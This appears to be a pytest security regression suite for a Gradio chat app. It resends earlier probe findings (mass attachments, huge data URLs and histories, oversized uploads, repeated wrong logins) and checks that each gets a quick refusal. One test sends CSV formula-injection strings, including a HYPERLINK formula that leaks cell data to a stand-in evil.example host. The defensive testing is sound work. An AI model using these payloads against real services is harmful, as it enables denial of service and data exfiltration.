"""Issue 27: what the outside probe found in the new surfaces, sent again through a real ``python app.py``.

Each test sends the probe's attack (raw aiohttp, raw sockets, gradio_client, the openai SDK's wire format) to the
app with the stand-in Space behind it, and checks what a bystander or the host would see: a clear one-line
refusal, no stall for others, nothing stored, no memory kept. Two apps: an open one (``app``) and one behind a
login with a host (``alice``), a visitor (``bob``) and a turn budget of one turn an hour (``shared``).
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import secrets
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import aiohttp
import pytest
from app_server import start_app
from gradio_client import Client, handle_file
from media_factory import png
from PIL import Image
from test_security_probe import config, fn_index, join_and_read

from phi4_standin.launcher import reset
from phi4_standin.process import ServerProcess

TUNABLES = {"PHI4_CACHE_MAX_AGE": "600", "PHI4_STREAM_GRACE": "5", "PHI4_TURNS_PER_CLIENT": "4",
            "PHI4_LOGIN_LOCKOUT": "60"}
USERS = {"alice": "host-" + secrets.token_hex(4), "bob": "visitor-" + secrets.token_hex(4)}
MB = 1024 * 1024


def status_of(pid: int, field: str) -> float:
    """``VmRSS`` / ``VmHWM`` of a process, in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise AssertionError(field)


def reset_peak(pid: int) -> bool:
    """Start ``VmHWM`` again from the current RSS (``clear_refs`` 5); False where the kernel does not allow it."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
        return True
    except OSError:
        return False


@pytest.fixture(scope="module")
def stores(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("stores27")


@pytest.fixture(scope="module")
def app(standin: ServerProcess, stores: Path, tmp_path_factory) -> Iterator[ServerProcess]:
    env = {**TUNABLES, "GRADIO_TEMP_DIR": str(tmp_path_factory.mktemp("cache27")),
           "PHI4_QA_DB": str(stores / "open-qa.sqlite3"), "PHI4_USAGE_DB": str(stores / "open-usage.sqlite3")}
    reset(standin.url)
    with start_app("--space-url", standin.url, "--hub-url", standin.hub_url, "--no-fallback", env=env) as server:
        yield server


@pytest.fixture(scope="module")
def shared(standin: ServerProcess, stores: Path, tmp_path_factory) -> Iterator[ServerProcess]:
    env = {**TUNABLES, "GRADIO_TEMP_DIR": str(tmp_path_factory.mktemp("cache27s")),
           "PHI4_QA_DB": str(stores / "qa.sqlite3"), "PHI4_USAGE_DB": str(stores / "usage.sqlite3"),
           "PHI4_QA_MAX_MB": "3"}
    args = ["--space-url", standin.url, "--hub-url", standin.hub_url, "--no-fallback", "--admin", "alice",
            "--visitor-turns", "1/hour"]
    for user, password in USERS.items():
        args += ["--auth", f"{user}:{password}"]
    with start_app(*args, env=env) as server:
        yield server


def tiny_png() -> str:
    out = io.BytesIO()
    Image.new("RGB", (1, 1), "red").save(out, "PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue()).decode()


async def bystander(session: aiohttp.ClientSession, base: str, done: asyncio.Event) -> list[float]:
    """Cheap requests one after another while ``done`` is not set: each one's seconds."""
    waits = []
    while not done.is_set():
        start = time.perf_counter()
        async with session.get(base + "/v1/models") as resp:
            assert resp.status == 200
        waits.append(time.perf_counter() - start)
        await asyncio.sleep(0.02)
    return waits


# ---- high 1: one /v1 request must not freeze the app ------------------------------------------------------

@pytest.mark.parametrize("where", ["history", "last message"])
async def test_thousands_of_attachments_are_refused_before_any_work_and_others_are_not_stalled(app, where):
    image = {"type": "image_url", "image_url": {"url": tiny_png()}}
    many = [image] * 16_000
    if where == "history":
        messages = [{"role": "user", "content": many}, {"role": "assistant", "content": "ok"},
                    {"role": "user", "content": "and now?"}]
    else:
        messages = [{"role": "user", "content": [{"type": "text", "text": "look"}, *many]}]
    body = json.dumps({"model": "phi-4-multimodal", "messages": messages}).encode()
    async with aiohttp.ClientSession() as session:
        done = asyncio.Event()
        watch = asyncio.create_task(bystander(session, app.url, done))
        await asyncio.sleep(0.2)
        start = time.perf_counter()
        async with session.post(app.url + "/v1/chat/completions", data=body,
                                headers={"content-type": "application/json"}) as resp:
            answer = await resp.json()
            status = resp.status
        took = time.perf_counter() - start
        done.set()
        waits = await watch
    assert status == 400, answer
    assert "files" in answer["error"]["message"] and answer["error"]["code"] == "too_many_files", answer
    print(f"/v1 with 16,000 images ({where}): refused in {took:.2f} s; bystander's worst wait {max(waits):.2f} s")
    # docs/openai-api.md: refused before any file is decoded, under a second (the probe saw 22.8 s and a 17.2 s stall)
    assert took < 2.0 and max(waits) < 2.0, (took, max(waits))


async def test_a_huge_data_url_is_refused_by_its_size_before_it_is_decoded(app):
    url = "data:image/png;base64," + "A" * (60 * 1000 * 1000)
    body = json.dumps({"model": "phi-4-multimodal",
                       "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}]})
    del url
    pid = app.proc.pid
    can_reset = reset_peak(pid)
    before = status_of(pid, "VmHWM" if can_reset else "VmRSS")
    async with aiohttp.ClientSession() as session:
        async with session.post(app.url + "/v1/chat/completions", data=body.encode(),
                                headers={"content-type": "application/json"}) as resp:
            answer = await resp.json()
            assert resp.status == 400, answer
    peak = status_of(pid, "VmHWM") - before
    print(f"a 60 MB data: URL: peak +{peak:.0f} MB")
    # docs/openai-api.md: the peak is about the body's size (60 MB); the probe saw +242 MB
    assert peak < 2 * 60, f"the app's memory peaked {peak:.0f} MB over its size before the refusal"
    assert "MB" in answer["error"]["message"] and answer["error"]["code"] == "too_large", answer


# ---- high 3: refused /chat histories must not grow memory ---------------------------------------------------

def big_history(mb: int) -> list[dict]:
    text = "x" * (MB // 4)
    return [{"role": "user" if n % 2 == 0 else "assistant", "content": [{"type": "text", "text": text}]}
            for n in range(mb * 4)]


async def test_refused_huge_histories_leave_no_memory_behind(app):
    cfg = await config(app)
    chat, respond = fn_index(cfg, "chat"), fn_index(cfg, "respond")  # the API's turn, the page's turn
    history = big_history(50)
    bodies = {  # the probe's routes: the chat API with a history, the UI's turn, a direct run, an instant event
        "/gradio_api/queue/join": json.dumps({"data": [{"text": "hi", "files": []}, history], "fn_index": chat,
                                              "session_hash": "same" + secrets.token_hex(4)}).encode(),
        "/gradio_api/run/chat": json.dumps({"data": [{"text": "hi", "files": []}, history]}).encode(),
        "/gradio_api/queue/join#ui": json.dumps({"data": [history], "fn_index": respond,
                                                 "session_hash": "same" + secrets.token_hex(4)}).encode(),
    }
    del history
    rss = status_of(app.proc.pid, "VmRSS")
    answers = []
    async with aiohttp.ClientSession() as session:
        for _ in range(4):
            for route, body in bodies.items():
                try:
                    async with session.post(app.url + route.split("#")[0], data=body,
                                            headers={"content-type": "application/json"}) as resp:
                        answers.append((resp.status, await resp.text()))
                except aiohttp.ClientError as exc:  # the server may close before the client finished sending
                    answers.append((0, repr(exc)))
        # the same through chunked bodies (no Content-Length): read up to the cap, then refused
        async def chunks(body: bytes):
            for i in range(0, len(body), MB):
                yield body[i:i + MB]
        for route, body in bodies.items():
            try:
                async with session.post(app.url + route.split("#")[0], data=chunks(body),
                                        headers={"content-type": "application/json"}) as resp:
                    answers.append((resp.status, await resp.text()))
            except aiohttp.ClientError as exc:
                answers.append((0, repr(exc)))
    after = status_of(app.proc.pid, "VmRSS")
    refused = [(s, t) for s, t in answers if s == 413]
    print(f"{len(answers)} refused 50 MB histories: RSS {rss:.0f} -> {after:.0f} MB; answers {answers[:2]}")
    assert len(refused) == len(answers), answers
    assert all("MB" in t and "history" in t for _, t in refused), refused[0]
    assert after - rss < 60, f"RSS grew {after - rss:.0f} MB after refused histories"
    # and a normal turn still works, with its history
    client = Client(app.url, verbose=False)
    assert "You said" in client.predict({"text": "still here", "files": []}, api_name="/chat")


# ---- low: bad input and the log ---------------------------------------------------------------------------

async def test_a_lone_surrogate_is_named_as_such(app):
    body = b'{"data": [{"text": "broken \\ud800 here", "files": []}, null]}'
    async with aiohttp.ClientSession() as session:
        async with session.post(app.url + "/gradio_api/run/chat", data=body,
                                headers={"content-type": "application/json"}) as resp:
            text = await resp.text()
    assert "surrogate" in text and "control characters" not in text, text


async def test_a_bad_fn_index_is_a_one_line_refusal_not_a_traceback(app):
    log_before = len(app.log_text())
    async with aiohttp.ClientSession() as session:
        for n in range(20):
            for route in ("/gradio_api/queue/join", "/gradio_api/run/predict"):
                async with session.post(app.url + route, json={"data": [], "fn_index": 9999 + n,
                                                               "session_hash": "fn" + secrets.token_hex(4)}) as resp:
                    text = await resp.text()
                    assert resp.status in (400, 404, 422) and "fn_index" in text, (resp.status, text)
                    assert len(text) < 300, text
    log = app.log_text()[log_before:]
    assert "Traceback" not in log
    assert len(log) < 40 * 300, f"{len(log):,} bytes of log for 40 bad requests"


async def test_chat_export_refuses_a_history_past_the_limits(app):
    cfg = await config(app)
    export = fn_index(cfg, "prepare_downloads") if any(d.get("api_name") == "prepare_downloads"
                                                        for d in cfg["dependencies"]) else None
    assert export is not None
    history = [{"role": "user", "content": [{"type": "text", "text": "y" * 100_000}]},
               {"role": "assistant", "content": [{"type": "text", "text": "z" * 150_000}]}]
    async with aiohttp.ClientSession() as session:
        messages = await join_and_read(session, app.url, export, [history], "exp" + secrets.token_hex(4))
        small = await join_and_read(session, app.url, export, [history[:1]], "exp" + secrets.token_hex(4))
    done = [m for m in messages if m.get("msg") == "process_completed"]
    assert done and not done[0]["success"] and "200,000" in json.dumps(done[0]), done
    assert any(m.get("success") for m in small if m.get("msg") == "process_completed"), small


async def test_one_upload_request_is_bounded(app):
    form = aiohttp.FormData()
    for n in range(8):
        form.add_field("files", b"\0" * int(24.9 * MB), filename=f"a{n}.wav", content_type="audio/wav")
    async with aiohttp.ClientSession() as session:
        try:
            async with session.post(app.url + "/gradio_api/upload", data=form) as resp:
                status, text = resp.status, await resp.text()
        except aiohttp.ClientError as exc:
            status, text = 0, repr(exc)
    assert status == 413 and "MB" in text, (status, text[:300])


def test_results_csv_cells_cannot_be_formulas(app, tmp_path):
    image = png(tmp_path / "f.png")
    client = Client(app.url, verbose=False)
    prompts = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n+1+2\n@SUM(1)'
    run = client.predict([handle_file(str(image))], prompts, "", None, 2, api_name="/qa_run")[2]["value"]
    csv_path = next(p for p in client.predict(run, api_name="/qa_export") if p.endswith("results.csv"))
    import csv

    rows = list(csv.reader(Path(csv_path).read_text(encoding="utf-8").splitlines()))
    cells = [c for row in rows for c in row]
    assert any("HYPERLINK" in c for c in cells), rows[:3]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


# ---- the shared app: a host, a visitor, a budget -----------------------------------------------------------

def login_client(app: ServerProcess, user: str) -> Client:
    return Client(app.url, auth=(user, USERS[user]), verbose=False)


def blob_bytes(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        return int(conn.execute("SELECT COALESCE(SUM(size), 0) FROM blobs").fetchone()[0])


def test_nothing_a_visitor_sends_is_stored_before_the_budget_says_yes(shared, stores, tmp_path):
    bob = login_client(shared, "bob")  # one turn an hour
    files = []
    for n in range(5):
        path = tmp_path / f"big{n}.png"
        Image.frombytes("RGB", (400, 400), secrets.token_bytes(400 * 400 * 3)).save(path)
        files.append(handle_file(str(path)))
    before = blob_bytes(stores / "qa.sqlite3")
    status = bob.predict(files, "What is this?", "", None, 2, api_name="/qa_run")[0]
    assert "That run has 5 cases and you have 1 turn left" in status, status
    assert blob_bytes(stores / "qa.sqlite3") == before, "the files were stored though the budget said no"
    bob.predict({"text": "my one turn", "files": []}, api_name="/chat")

    async def upload() -> tuple[int, str]:  # no turn left: no upload either (the page's own request)
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as session:
            async with session.post(shared.url + "/login", data={"username": "bob", "password": USERS["bob"]}) as r:
                assert r.status == 200
            form = aiohttp.FormData()
            form.add_field("files", (tmp_path / "big0.png").read_bytes(), filename="big0.png", content_type="image/png")
            async with session.post(shared.url + "/gradio_api/upload", data=form) as resp:
                return resp.status, await resp.text()

    status_code, text = asyncio.run(upload())
    assert status_code == 429 and "You have used your 1 turn" in text, (status_code, text)
    status = bob.predict([], "text only", "", None, 2, api_name="/qa_run")[0]
    assert "You have used your 1 turn" in status, status
    assert blob_bytes(stores / "qa.sqlite3") == before


def test_the_qa_store_has_a_size_bound(shared, stores, tmp_path):
    alice = login_client(shared, "alice")  # the host: no turn budget, so only the store's bound applies
    files = []
    for n in range(4):
        path = tmp_path / f"huge{n}.png"
        Image.frombytes("RGB", (600, 600), secrets.token_bytes(600 * 600 * 3)).save(path)  # ~1 MB each
        files.append(handle_file(str(path)))
    before = blob_bytes(stores / "qa.sqlite3")
    status = alice.predict(files, "What is this?", "", None, 2, api_name="/qa_run")[0]
    assert "QA store" in status and "MB" in status, status
    assert blob_bytes(stores / "qa.sqlite3") == before


def test_qa_turns_reach_the_usage_log_and_config_hides_its_path(shared, stores, tmp_path):
    alice = login_client(shared, "alice")
    image = handle_file(str(png(tmp_path / "q.png")))
    with sqlite3.connect(stores / "usage.sqlite3") as conn:
        before = conn.execute("SELECT COUNT(*) FROM turns WHERE source='qa'").fetchone()[0]
    alice.predict([image], "one\ntwo\nthree", "", None, 2, api_name="/qa_run")
    with sqlite3.connect(stores / "usage.sqlite3") as conn:
        after = conn.execute("SELECT COUNT(*) FROM turns WHERE source='qa' AND visitor='user:alice'").fetchone()[0]
    assert after - before == 3
    bob = login_client(shared, "bob")
    assert str(stores) not in json.dumps(bob.config), "the usage database's path is shown to every visitor"


def test_only_the_host_switches_the_space(shared):
    ids = {}
    for user in USERS:
        client = login_client(shared, user)
        cfg = client.config
        button = next(c["id"] for c in cfg["components"] if c.get("props", {}).get("elem_id") == "switch-btn")
        ids[user] = next(d["id"] for d in cfg["dependencies"] if [button, "click"] in [list(t) for t in d["targets"]])

    async def press(user: str) -> list[dict]:
        jar = aiohttp.CookieJar(unsafe=True)
        async with aiohttp.ClientSession(cookie_jar=jar) as session:
            async with session.post(shared.url + "/login", data={"username": user, "password": USERS[user]}) as r:
                assert r.status == 200
            return await join_and_read(session, shared.url, ids[user], [], "sw" + secrets.token_hex(4))

    log_before = len(shared.log_text())
    bob = asyncio.run(press("bob"))
    done = [m for m in bob if m.get("msg") == "process_completed"]
    assert done and not done[0]["success"] and "host" in json.dumps(done[0]), bob
    assert "switched" not in shared.log_text()[log_before:].lower()
    alice = asyncio.run(press("alice"))
    assert any(m.get("success") for m in alice if m.get("msg") == "process_completed"), alice


async def test_a_locked_out_address_is_told_that_even_the_right_password_waits(shared):
    headers = {"X-Forwarded-For": "10.27.0." + str(secrets.randbelow(200) + 1)}
    async with aiohttp.ClientSession() as session:
        for n in range(6):
            async with session.post(shared.url + "/login", headers=headers,
                                    data={"username": "bob", "password": f"wrong{n}"}) as resp:
                await resp.read()
        async with session.post(shared.url + "/login", headers=headers,
                                data={"username": "bob", "password": USERS["bob"]}) as resp:
            status, text = resp.status, await resp.text()
    assert status == 429 and "right password" in text, (status, text)
